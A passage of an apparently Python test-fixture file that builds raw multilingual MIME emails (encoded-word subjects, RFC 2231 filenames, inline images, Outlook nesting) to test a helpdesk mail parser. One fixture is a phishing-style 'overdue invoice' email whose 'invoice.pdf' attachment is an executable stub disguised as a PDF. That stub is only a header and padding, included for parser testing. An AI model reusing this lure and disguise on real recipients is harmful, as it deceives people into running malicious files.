 =?UTF-8?B?{base64.b64encode(_W[1]).decode()}?=
 =?UTF-8?B?{base64.b64encode(_W[2]).decode()}?=
MIME-Version: 1.0
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: 8bit

{SFR_10_TEXT}""",
    message_id="<179405069812.66310.4471@wsfrf1103.sfr.example>",
    from_address="jerome.blanc@sfr.example",
    from_name="Jérôme Blanc",
    to=["sav@desk.example"],
    subject="Problème de facturation – prélèvement effectué deux fois",
    text_contains=["prélevé deux fois (2 × 4,99 €)", "Jérôme Blanc"],
    language="fr",
    note="SFR webmail: the subject's UTF-8 is cut into B encoded-words in the middle of 'è' and of '–'; the bytes of adjacent words must be joined before decoding. Raw UTF-8 8bit body.",
)

YAHOO_11_TEXT = """Hello,

I bought a Novalux soundbar (SB-500) from your London store last Saturday. The remote doesn't pair and the manual's QR code leads to a 404 page. Could you send me the PDF manual?

Many thanks,
Oliver Hughes"""
YAHOO_11_HTML = """<html><head></head><body><div class="ydp5e3a1b2cyahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;"><div dir="ltr" data-setdir="false">Hello,</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">I bought a Novalux soundbar (SB-500) from your London store last Saturday. The remote doesn't pair and the manual's QR code leads to a 404 page. Could you send me the PDF manual?</div><div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Many thanks,</div><div dir="ltr" data-setdir="false">Oliver Hughes</div></div></body></html>"""
add(
    "yahoo-en-alternative",
    f"""Return-Path: <oliver.hughes@yahoo.example>
Delivered-To: support@desk.example
{received("support@desk.example", "Fri, 6 Nov 2026 12:44:19 +0000")}Date: Fri, 6 Nov 2026 12:44:12 +0000 (UTC)
From: Oliver Hughes <oliver.hughes@yahoo.example>
To: "support@desk.example" <support@desk.example>
Message-ID: <1402857364.2291833.1794055452210@mail.yahoo.example>
Subject: Soundbar SB-500 remote won't pair
MIME-Version: 1.0
Content-Type: multipart/alternative; 
\tboundary="----=_Part_2291832_1716354690.1794055452209"
References: <1402857364.2291833.1794055452210.ref@mail.yahoo.example>
X-Mailer: WebService/1.1.22876 YMailNorrin
Content-Length: 1650

------=_Part_2291832_1716354690.1794055452209
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

{YAHOO_11_TEXT}
------=_Part_2291832_1716354690.1794055452209
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

{YAHOO_11_HTML}
------=_Part_2291832_1716354690.1794055452209--
""",
    message_id="<1402857364.2291833.1794055452210@mail.yahoo.example>",
    references=["<1402857364.2291833.1794055452210.ref@mail.yahoo.example>"],
    from_address="oliver.hughes@yahoo.example",
    from_name="Oliver Hughes",
    to=["support@desk.example"],
    subject="Soundbar SB-500 remote won't pair",
    text_contains=["Novalux soundbar (SB-500)", "send me the PDF manual"],
    language="en",
    note="Yahoo Mail: 7bit alternative with ----=_Part_ boundaries, a wrong Content-Length header, and Yahoo's own '.ref' id in References on a new message (no thread of ours).",
)

LIBERO_12_TEXT = """Buongiorno, il frigorifero FR-210 fa un rumore fortissimo di notte.
Il tecnico dice che va sostituito il compressore: è coperto dalla garanzia?

Marco Gallò
"""
add(
    "malformed-encoded-word-it",
    f"""Return-Path: <marco.gallo@libero.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Fri, 06 Nov 2026 16:20:33 +0100")}Date: Fri, 6 Nov 2026 16:20:30 +0100
From: =?iso-8859-1?q?Marco_Gall=F2?= <marco.gallo@libero.example>
To: assistenza@desk.example
Message-ID: <f1e2d3c4b5a6.20261106162030@libero.example>
Subject: =?iso-8859-1?Q?Frigorifero_rumoroso_-_sostituzione_compressore
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
X-Mailer: Libero Mail

{qp(LIBERO_12_TEXT)}""",
    message_id="<f1e2d3c4b5a6.20261106162030@libero.example>",
    from_address="marco.gallo@libero.example",
    from_name="Marco Gallò",
    to=["assistenza@desk.example"],
    subject="=?iso-8859-1?Q?Frigorifero_rumoroso_-_sostituzione_compressore",
    text_contains=["il frigorifero FR-210", "è coperto dalla garanzia"],
    language="it",
    note="Malformed encoded-word: the subject's encoded-word never closes with '?=', so it is kept as literal text (as mail clients show it); lowercase 'q' in the display name's word is valid.",
)


# --- 13-23: attachments, inline images, nesting, forwards, invitations -------------------------

TB_13_PDF = pdf(13, 18_432, "Facture")
TB_13_TEXT = """Bonjour,

Vous trouverez ci-joint la facture de décembre dernier pour la réparation de
mon lave-vaisselle : le montant ne correspond pas au devis accepté (75 €).

Cordialement,
Amélie Fournier
"""
TB_13_NAME = "Facture réparation lave-vaisselle décembre 2025 (n° 4471).pdf"
_TB_13_UNITS = [
    c if c.isascii() and (c.isalnum() or c in ".-_") else "".join(f"%{b:02X}" for b in c.encode())
    for c in TB_13_NAME
]
_TB_13_ENC = ["".join(_TB_13_UNITS[i : i + 20]) for i in range(0, len(_TB_13_UNITS), 20)]
_TB_13_DISP = ";\n".join(
    f" filename*{i}*=" + ("UTF-8''" if i == 0 else "") + chunk for i, chunk in enumerate(_TB_13_ENC)
)
add(
    "thunderbird-fr-rfc2231-filename",
    f"""Return-Path: <amelie.fournier@laposte.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Fri, 06 Nov 2026 17:02:51 +0100")}Content-Type: multipart/mixed; boundary="------------Y0aB7cD1eF2gH3iJ4kL5mN6o"
Message-ID: <0f9e8d7c-6b5a-4938-a7b6-c5d4e3f2a1b0@laposte.example>
Date: Fri, 6 Nov 2026 17:02:48 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: sav@desk.example
From: =?UTF-8?Q?Am=C3=A9lie_Fournier?= <amelie.fournier@laposte.example>
Subject: =?UTF-8?Q?Facture_lave-vaisselle_non_conforme_au_devis?=

This is a multi-part message in MIME format.
--------------Y0aB7cD1eF2gH3iJ4kL5mN6o
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

{TB_13_TEXT}
--------------Y0aB7cD1eF2gH3iJ4kL5mN6o
Content-Type: application/pdf;
 name="{ew_b(TB_13_NAME[:34])}
 {ew_b(TB_13_NAME[34:])}"
Content-Disposition: attachment;
{_TB_13_DISP}
Content-Transfer-Encoding: base64

{b64(TB_13_PDF, 72)}

--------------Y0aB7cD1eF2gH3iJ4kL5mN6o--
""",
    message_id="<0f9e8d7c-6b5a-4938-a7b6-c5d4e3f2a1b0@laposte.example>",
    from_address="amelie.fournier@laposte.example",
    from_name="Amélie Fournier",
    to=["sav@desk.example"],
    subject="Facture lave-vaisselle non conforme au devis",
    text_contains=["la facture de décembre dernier", "devis accepté (75 €)"],
    attachments=[att(TB_13_NAME, "application/pdf", len(TB_13_PDF))],
    language="fr",
    note="Thunderbird attachment: filename in RFC 2231 continuations with percent-encoded UTF-8 (accents, °) in Content-Disposition; Content-Type name= split as an encoded-word.",
)

GMAIL_14_PDF = pdf(14, 24_117, "Bon de garantie")
GMAIL_14_JPG = jpeg(141, 41_250)
GMAIL_14_PDF_NAME = "Bon de garantie n°2026-0457.pdf"
GMAIL_14_JPG_NAME = "étiquette numéro de série.jpg"
GMAIL_14_TEXT = """Bonjour,

Comme demandé au téléphone, voici le bon de garantie et une photo de
l'étiquette avec le numéro de série du micro-ondes.

Bonne journée,
Raphaël Dubois
"""
GMAIL_14_HTML = """<div dir="ltr">Bonjour,<div><br></div><div>Comme demandé au téléphone, voici le bon de garantie et une photo de l&#39;étiquette avec le numéro de série du micro-ondes.</div><div><br></div><div>Bonne journée,</div><div>Raphaël Dubois</div></div>
"""
add(
    "gmail-fr-encoded-word-filenames",
    f"""Delivered-To: sav@desk.example
{received("sav@desk.example", "Sat, 07 Nov 2026 10:11:09 +0100")}MIME-Version: 1.0
From: =?UTF-8?Q?Rapha=C3=ABl_Dubois?= <raphael.dubois@gmail.example>
Date: Sat, 7 Nov 2026 10:10:44 +0100
Message-ID: <CAF8qWzN5kX1aYp0m3Rr9Lt6Uv2Bc4De7Gh0Ij1Kl2Mn3Op4Q_q@mail.gmail.example>
Subject: Garantie micro-ondes
To: sav@desk.example
Content-Type: multipart/mixed; boundary="000000000000c3d4e5061f5a7b8c"

--000000000000c3d4e5061f5a7b8c
Content-Type: multipart/alternative; boundary="000000000000c3d4e4061f5a7b8a"

--000000000000c3d4e4061f5a7b8a
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_14_TEXT)}
--000000000000c3d4e4061f5a7b8a
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_14_HTML)}
--000000000000c3d4e4061f5a7b8a--
--000000000000c3d4e5061f5a7b8c
Content-Type: application/pdf; 
\tname="{ew_q(GMAIL_14_PDF_NAME, "UTF-8")}"
Content-Disposition: attachment; 
\tfilename="{ew_q(GMAIL_14_PDF_NAME, "UTF-8")}"
Content-Transfer-Encoding: base64
Content-ID: <f_mh7k2x0a0>
X-Attachment-Id: f_mh7k2x0a0

{b64(GMAIL_14_PDF)}
--000000000000c3d4e5061f5a7b8c
Content-Type: image/jpeg; 
\tname="{ew_b(GMAIL_14_JPG_NAME, "UTF-8")}"
Content-Disposition: attachment; 
\tfilename="{ew_b(GMAIL_14_JPG_NAME, "UTF-8")}"
Content-Transfer-Encoding: base64
Content-ID: <f_mh7k2x0b1>
X-Attachment-Id: f_mh7k2x0b1

{b64(GMAIL_14_JPG)}
--000000000000c3d4e5061f5a7b8c--
""",
    message_id="<CAF8qWzN5kX1aYp0m3Rr9Lt6Uv2Bc4De7Gh0Ij1Kl2Mn3Op4Q_q@mail.gmail.example>",
    from_address="raphael.dubois@gmail.example",
    from_name="Raphaël Dubois",
    to=["sav@desk.example"],
    subject="Garantie micro-ondes",
    text_contains=["Comme demandé au téléphone", "Raphaël Dubois"],
    attachments=[
        att(GMAIL_14_PDF_NAME, "application/pdf", len(GMAIL_14_PDF)),
        att(GMAIL_14_JPG_NAME, "image/jpeg", len(GMAIL_14_JPG)),
    ],
    language="fr",
    note='Gmail attachments named with the non-standard filename="=?UTF-8?Q?...?=" / "=?UTF-8?B?...?=" form; each has a Content-ID but is an attachment, not inline.',
)

GMAIL_15_JPG1 = jpeg(151, 35_000)
GMAIL_15_JPG2 = jpeg(152, 29_871)
GMAIL_15_DOCX = docx("Modulo di reso compilato - Lucia Colombo")
GMAIL_15_PDF = pdf(153, 12_800, "Scontrino")
GMAIL_15_TEXT = """Buongiorno,

in allegato trovate le foto del forno a microonde arrivato con il vetro rotto,
lo scontrino e il modulo di reso compilato.
Vorrei la sostituzione, non il rimborso.

Cordiali saluti,
Lucia Colombo
"""
GMAIL_15_HTML = """<div dir="ltr"><div>Buongiorno,</div><div><br></div><div>in allegato trovate le foto del forno a microonde arrivato con il vetro rotto, lo scontrino e il modulo di reso compilato.</div><div>Vorrei la sostituzione, non il rimborso.</div><div><br></div><div>Cordiali saluti,</div><div>Lucia Colombo</div></div>
"""


def gmail_attachment(boundary, ctype, name, data, ident):
    return (
        f'--{boundary}\nContent-Type: {ctype}; name="{name}"\n'
        f'Content-Disposition: attachment; filename="{name}"\n'
        f"Content-Transfer-Encoding: base64\nContent-ID: <{ident}>\nX-Attachment-Id: {ident}\n\n"
        f"{b64(data)}\n"
    )


add(
    "gmail-it-mixed-attachments",
    f"""Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Sat, 07 Nov 2026 11:40:02 +0100")}MIME-Version: 1.0
From: Lucia Colombo <lucia.colombo@gmail.example>
Date: Sat, 7 Nov 2026 11:39:31 +0100
Message-ID: <CAKm2VnR8pT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U@mail.gmail.example>
Subject: Forno a microonde arrivato rotto - ordine IT-80412
To: assistenza@desk.example
Content-Type: multipart/mixed; boundary="0000000000009e8f7a061f5b1c2d"

--0000000000009e8f7a061f5b1c2d
Content-Type: multipart/alternative; boundary="0000000000009e8f78061f5b1c2b"

--0000000000009e8f78061f5b1c2b
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_15_TEXT)}
--0000000000009e8f78061f5b1c2b
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(GMAIL_15_HTML)}
--0000000000009e8f78061f5b1c2b--
{gmail_attachment("0000000000009e8f7a061f5b1c2d", "image/jpeg", "IMG_20261107_112201.jpg", GMAIL_15_JPG1, "f_mh8a1b2c0")}{gmail_attachment("0000000000009e8f7a061f5b1c2d", "image/jpeg", "IMG_20261107_112215.jpg", GMAIL_15_JPG2, "f_mh8a1b2c1")}{gmail_attachment("0000000000009e8f7a061f5b1c2d", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Modulo_reso.docx", GMAIL_15_DOCX, "f_mh8a1b2c2")}{gmail_attachment("0000000000009e8f7a061f5b1c2d", "application/pdf", "scontrino.pdf", GMAIL_15_PDF, "f_mh8a1b2c3")}--0000000000009e8f7a061f5b1c2d--
""",
    message_id="<CAKm2VnR8pT0qW4sYx6Zb1Cd3Ef5Gh7Ij9Kl0Mn2Op4Qr6St8U@mail.gmail.example>",
    from_address="lucia.colombo@gmail.example",
    from_name="Lucia Colombo",
    to=["assistenza@desk.example"],
    subject="Forno a microonde arrivato rotto - ordine IT-80412",
    text_contains=["arrivato con il vetro rotto", "Vorrei la sostituzione"],
    attachments=[
        att("IMG_20261107_112201.jpg", "image/jpeg", len(GMAIL_15_JPG1)),
        att("IMG_20261107_112215.jpg", "image/jpeg", len(GMAIL_15_JPG2)),
        att(
            "Modulo_reso.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            len(GMAIL_15_DOCX),
        ),
        att("scontrino.pdf", "application/pdf", len(GMAIL_15_PDF)),
    ],
    language="it",
    note="Gmail multipart/mixed > alternative plus two JPEG photos, a DOCX and a PDF, in document order.",
)

APPLE_16_PDF = pdf(16, 9_876, "Ricevuta")
APPLE_16_TXT = """Log diagnostica Novalux Hub H2
firmware 4.2.1 (build 2026-10-21)
errore E42 alle 03:12, 03:47, 04:05
riavvio automatico: si
"""
APPLE_16_TEXT = """Buongiorno,

l'hub domotico H2 si riavvia da solo ogni notte. Allego il log scaricato
dall'app e la ricevuta d'acquisto.

Grazie,
Tommaso Ricci
"""
add(
    "apple-mail-it-octet-stream-pdf-and-txt",
    f"""Return-Path: <tommaso.ricci@icloud.example>
Delivered-To: assistenza@desk.example
{received("assistenza@desk.example", "Sat, 07 Nov 2026 15:05:40 +0100")}From: Tommaso Ricci <tommaso.ricci@icloud.example>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_6A1F3C2B-9D4E-4E7F-8A0B-1C2D3E4F5A6B"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Hub H2 si riavvia ogni notte
Date: Sat, 7 Nov 2026 15:05:33 +0100
Message-Id: <9B8A7C6D-5E4F-4A3B-8C2D-1E0F9A8B7C6D@icloud.example>
To: assistenza@desk.example
X-Mailer: Apple Mail (2.3826.300.87.4.3)


--Apple-Mail=_6A1F3C2B-9D4E-4E7F-8A0B-1C2D3E4F5A6B
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

{APPLE_16_TEXT}
--Apple-Mail=_6A1F3C2B-9D4E-4E7F-8A0B-1C2D3E4F5A6B
Content-Disposition: attachment;
\tfilename=hub-h2-log.txt
Content-Type: text/plain;
\tx-unix-mode=0644;
\tname="hub-h2-log.txt"
Content-Transfer-Encoding: 7bit

{APPLE_16_TXT}
--Apple-Mail=_6A1F3C2B-9D4E-4E7F-8A0B-1C2D3E4F5A6B
Content-Disposition: attachment;
\tfilename=ricevuta.pdf
Content-Type: application/octet-stream;
\tx-unix-mode=0644;
\tname="ricevuta.pdf"
Content-Transfer-Encoding: base64

{b64(APPLE_16_PDF)}
--Apple-Mail=_6A1F3C2B-9D4E-4E7F-8A0B-1C2D3E4F5A6B--
""",
    message_id="<9B8A7C6D-5E4F-4A3B-8C2D-1E0F9A8B7C6D@icloud.example>",
    from_address="tommaso.ricci@icloud.example",
    from_name="Tommaso Ricci",
    to=["assistenza@desk.example"],
    subject="Hub H2 si riavvia ogni notte",
    text_contains=["l'hub domotico H2 si riavvia", "la ricevuta d'acquisto"],
    text_excludes=["errore E42"],
    attachments=[
        att("hub-h2-log.txt", "text/plain", textsize(APPLE_16_TXT)),
        att("ricevuta.pdf", "application/octet-stream", len(APPLE_16_PDF)),
    ],
    language="it",
    note="Apple Mail: a 7bit .txt attachment with no charset (its size counts CRLF line ends as stored) and a PDF declared application/octet-stream.",
)

FAKE_17_EXE = blob(
    17,
    6_144,
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00"
    + b"\x00" * 40
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$",
)
add(
    "fake-invoice-executable-en",
    f"""Return-Path: <billing@invoices-secure.example>
Delivered-To: support@desk.example
{received("support@desk.example", "Sun, 8 Nov 2026 03:14:07 +0000")}From: "Accounts Payable" <billing@invoices-secure.example>
To: support@desk.example
Subject: Overdue invoice #INV-88213 - immediate action required
Date: Sun, 8 Nov 2026 03:14:02 +0000
Message-ID: <20261108031402.5E1C2B3A4D@invoices-secure.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_NextPart_000_0001_01DB4F2A.7C3E1B90"
X-Mailer: Microsoft Outlook 16.0

This is a multi-part message in MIME format.

--=_NextPart_000_0001_01DB4F2A.7C3E1B90
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

Dear customer,

Your invoice INV-88213 is overdue. Please open the attached invoice.pdf and
settle the amount within 24 hours to avoid suspension of your account.

Accounts Payable

--=_NextPart_000_0001_01DB4F2A.7C3E1B90
Content-Type: application/pdf; name="invoice.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="invoice.pdf"

{b64(FAKE_17_EXE)}

--=_NextPart_000_0001_01DB4F2A.7C3E1B90--
""",
    message_id="<20261108031402.5E1C2B3A4D@invoices-secure.example>",
    from_address="billing@invoices-secure.example",
    from_name="Accounts Payable",
    to=["support@desk.example"],
    subject="Overdue invoice #INV-88213 - immediate action required",
    text_contains=["Your invoice INV-88213 is overdue", "attached invoice.pdf"],
    attachments=[att("invoice.pdf", "application/pdf", len(FAKE_17_EXE))],
    language="en",
    note="Phishing-shaped mail: invoice.pdf declared application/pdf whose bytes start with 'MZ' and a DOS stub (an executable); its declared type is reported as declared.",
)

APPLE_18_JPG = jpeg(18, 52_300)
APPLE_18_TEXT = """Bonjour,

Voici une photo de la fissure sur le bac de l'aspirateur robot, comme
demandé par votre conseillère.

[cid:A1B2C3D4-E5F6-4789-9ABC-DEF012345678]

Belle journée,
Inès Moreau
"""
APPLE_18_HTML = """<html aria-label="message body"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Bonjour,<div><br></div><div>Voici une photo de la fissure sur le bac de l’aspirateur robot, comme demandé par votre conseillère.</div><div><br></div><div><img apple-inline="yes" id="5D1C0E7B-3A2F-4B9C-8D6E-7F0A1B2C3D4E" src="cid:A1B2C3D4-E5F6-4789-9ABC-DEF012345678" alt="IMG_2231.jpeg"></div><div><br></div><div>Belle journée,</div><div>Inès Moreau</div></body></html>"""
add(
    "apple-mail-fr-related-inline-image",
    f"""Return-Path: <ines.moreau@icloud.example>
Delivered-To: sav@desk.example
{received("sav@desk.example", "Sun, 08 Nov 2026 09:48:20 +0100")}From: =?utf-8?Q?In=C3=A8s_Moreau?= <ines.moreau@icloud.example>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_0C1D2E3F-4A5B-4C6D-8E7F-901A2B3C4D5E"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Aspirateur robot : bac =?utf-8?Q?fissur=C3=A9?=
Date: Sun, 8 Nov 2026 09:48:14 +0100
Message-Id: <E3F2A1B0-C9D8-4E7F-A6B5-C4D3E2F1A0B9@icloud.example>
To: sav@desk.example
X-Mailer: Apple Mail (2.3826.300.87.4.3)


--Apple-Mail=_0C1D2E3F-4A5B-4C6D-8E7F-901A2B3C4D5E
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp(APPLE_18_TEXT)}
--Apple-Mail=_0C1D2E3F-4A5B-4C6D-8E7F-901A2B3C4D5E
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="Apple-Mail=_7A8B9C0D-1E2F-4A3B-9C4D-5E6F7A8B9C0D"


--Apple-Mail=_7A8B9C0D-1E2F-4A3B-9C4D-5E6F7A8B9C0D
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

{qp(APPLE_18_HTML)}
--Apple-Mail=_7A8B9C0D-1E2F-4A3B-9C4D-5E6F7A8B9C0D
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=IMG_2231.jpeg
Content-Type: image/jpeg;
\tx-unix-mode=0666;
\tname="IMG_2231.jpeg"
Content-Id: <A1B2C3D4-E5F6-4789-9ABC-DEF012345678>

{b64(APPLE_18_JPG)}
--Apple-Mail=_7A8B9C0D-1E2F-4A3B-9C4D-5E6F7A8B9C0D--

--Apple-Mail=_0C1D2E3F-4A5B-4C6D-8E7F-901A2B3C4D5E--
""",
    message_id="<E3F2A1B0-C9D8-4E7F-A6B5-C4D3E2F1A0B9@icloud.example>",
    from_address="ines.moreau@icloud.example",
    from_name="Inès Moreau",
    to=["sav@desk.example"],
    subject="Aspirateur robot : bac fissuré",
    text_contains=["la fissure sur le bac", "Inès Moreau"],
    attachments=[att("IMG_2231.jpeg", "image/jpeg", len(APPLE_18_JPG), inline=True)],
    language="fr",
    note="Apple Mail: alternative > (plain, related > (HTML, inline JPEG by cid:)), Apple-Mail=_ boundaries; subject mixes plain text and an encoded-word.",
)

OUTLOOK_19_LOGO = png(120, 40, (0, 82, 147))
OUTLOOK_19_PDF = pdf(19, 15_555, "Preventivo")
OUTLOOK_19_TEXT = """Buongiorno,

vi rimando il preventivo firmato per la riparazione della TV della sala riunioni.
Procedete pure.

Cordiali saluti

Federica Marino
Ufficio acquisti | Marino & Associati S.r.l.
[cid:image001.png@01DB4F3A.2C1B0A90]

Da: Assistenza Novalux <assistenza@desk.example>
Inviato: venerdì 6 novembre 2026 16:02
A: Federica Marino <f.marino@marino-associati.example>
Oggetto: Preventivo riparazione TV QN65 [#2950]

Gentile cliente,
in allegato il preventivo per la sostituzione del pannello (420,00 €).
"""
OUTLOOK_19_HTML = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm;
	font-size:11.0pt;
	font-family:"Calibri",sans-serif;}
--></style>
</head>
<body lang="IT" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Buongiorno,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">vi rimando il preventivo firmato per la riparazione della TV della sala riunioni.<o:p></o:p></p>
<p class="MsoNormal">Procedete pure.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Cordiali saluti<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><b>Federica Marino</b><o:p></o:p></p>
<p class="MsoNormal">Ufficio acquisti | Marino &amp; Associati S.r.l.<o:p></o:p></p>
<p class="MsoNormal"><img width="120" height="40" style="width:1.25in;height:.4166in" id="Immagine_x0020_1" src="cid:image001.png@01DB4F3A.2C1B0A90"><o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>Da:</b> Assistenza Novalux &lt;assistenza@desk.example&gt; <br>
<b>Inviato:</b> venerdì 6 novembre 2026 16:02<br>
<b>A:</b> Federica Marino &lt;f.marino@marino-associati.example&gt;<br>
<b>Oggetto:</b> Preventivo riparazione TV QN65 [#2950]<o:p></o:p></p>
</div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Gentile cliente,<br>in allegato il preventivo per la sostituzione del pannello (420,00&nbsp;€).<o:p></o:p></p>
</div>
</body>
</html>
"""
_B19 = "_004_AM9PR02MB7456C1D2E3F4A5B6C7D8E9F0A1B2AM9PR02MB7456eurp_"
_R19 = "_003_AM9PR02MB7456C1D2E3F4A5B6C7D8E9F0A1B2AM9PR02MB7456eurp_"
_A19 = "_000_AM9PR02MB7456C1D2E3F4A5B6C7D8E9F0A1B2AM9PR02MB7456eurp_"
add(
    "outlook-it-mixed-related-alternative",
    f"""Received: from AM9PR02MB7456.eurprd02.prod.outlook.example ([fe80::1c2d:3e4f:5a6b:7c8d])
 by AM9PR02MB7456.eurprd02.prod.outlook.example ([fe80::1c2d:3e4f:5a6b:7c8d%4])
 with mapi id 15.20.8158.011; Mon, 9 Nov 2026 08:15:22 +0000
From: Federica Marino <f.marino@marino-associati.example>
To: Assistenza Novalux <assistenza@desk.example>
Subject: R: Preventivo riparazione TV QN65 [#2950]
Thread-Topic: Preventivo riparazione TV QN65 [#2950]
Thread-Index: AQHbTzocwMHdQ0JwJEK1hcNn4U3+cLLlbKaA
Date: Mon, 9 Nov 2026 08:15:21 +0000
Message-ID: <AM9PR02MB7456C1D2E3F4A5B6C7D8E9F0A1B2@AM9PR02MB7456.eurprd02.prod.outlook.example>
References: <case-2950.2@desk.example>
In-Reply-To: <case-2950.2@desk.example>
Accept-Language: it-IT, en-US
Content-Language: it-IT
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Content-Type: multipart/mixed;
\tboundary="{_B19}"
MIME-Version: 1.0

--{_B19}
Content-Type: multipart/related;
\tboundary="{_R19}";
\ttype="multipart/alternative"

--{_R19}
Content-Type: multipart/alternative;
\tboundary="{_A19}"

--{_A19}
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(OUTLOOK_19_TEXT.encode())}

--{_A19}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(OUTLOOK_19_HTML.encode())}

--{_A19}--

--{_R19}
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size={len(OUTLOOK_19_LOGO)};
\tcreation-date="Mon, 09 Nov 2026 08:15:20 GMT";
\tmodification-date="Mon, 09 Nov 2026 08:15:21 GMT"
Content-ID: <image001.png@01DB4F3A.2C1B0A90>
Content-Transfer-Encoding: base64

{b64(OUTLOOK_19_LOGO)}

--{_R19}--

--{_B19}
Content-Type: application/pdf; name="Preventivo_firmato_2950.pdf"
Content-Description: Preventivo_firmato_2950.pdf
Content-Disposition: attachment; filename="Preventivo_firmato_2950.pdf";
\tsize={len(OUTLOOK_19_PDF)}; creation-date="Mon, 09 Nov 2026 08:14:02 GMT";
\tmodification-date="Mon, 09 Nov 2026 08:15:21 GMT"
Content-Transfer-Encoding: base64

{b64(OUTLOOK_19_PDF)}

--{_B19}--
""",
    message_id="<AM9PR02MB7456C1D2E3F4A5B6C7D8E9F0A1B2@AM9PR02MB7456.eurprd02.prod.outlook.example>",
    in_reply_to="<case-2950.2@desk.example>",
    references=["<case-2950.2@desk.example>"],
    from_address="f.marino@marino-associati.example",
    from_name="Federica Marino",
    to=["assistenza@desk.example"],
    subject="R: Preventivo riparazione TV QN65 [#2950]",
    case_reference=2950,
    text_contains=["il preventivo firmato", "Inviato: venerdì 6 novembre 2026 16:02", "(420,00 €)"],
    attachments=[
        att("image001.png", "image/png", len(OUTLOOK_19_LOGO), inline=True),
        att("Preventivo_firmato_2950.pdf", "application/pdf", len(OUTLOOK_19_PDF)),
    ],
    language="it",
    note="Outlook (Exchange Online): mixed > related > alternative with base64 UTF-8 bodies, a signature logo by cid:, a signed PDF, an Italian 'Da: / Inviato: / A: / Oggetto:' quoted block and 'R:' reply prefix.",
)

FWD_20_INNER = """Return-Path: <noreply@parcels.example>
Message-ID: <delivery-55120931@parcels.example>
Date: Thu, 5 Nov 2026 14:02:11 +0000
From: Parcel Tracking <noreply@parcels.example>
To: james.whitfield@example.co.uk
Subject: Your parcel NX-UK-55120931 was delivered
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Hi James,

Your parcel NX-UK-55120931 from Novalux UK was delivered on 5 November at
13:58 and left in a safe place: "behind the bin".

Parcel Tracking"""
add(
    "thunderbird-en-forward-rfc822",
    f"""Return-Path: <james.whitfield@example.co.uk>
Delivered-To: support@desk.example
{received("support@desk.example", "Mon, 9 Nov 2026 10:20:31 +0000")}Content-Type: multipart/mixed; boundary="------------aB3dE5fG7hJ9kL1mN3pQ5rS7"
Message-ID: <2b4d6f80-a1c3-4e5f-8a9b-c1d2e3f4a5b6@example.co.uk>
Date: Mon, 9 Nov 2026 10:20:27 +0000
MIME-Version: 1.0
